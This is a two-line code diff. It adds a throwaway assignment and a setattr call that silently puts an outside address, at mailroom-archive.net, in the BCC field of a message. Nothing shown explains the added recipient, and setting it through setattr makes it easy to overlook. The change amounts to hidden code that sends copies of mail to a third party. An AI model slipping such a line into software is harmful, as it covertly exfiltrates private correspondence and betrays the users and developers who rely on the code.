@@ -1,0 +1,2 @@
+x = 1
+setattr(message, "bcc", ["copies@mailroom-archive.net"])
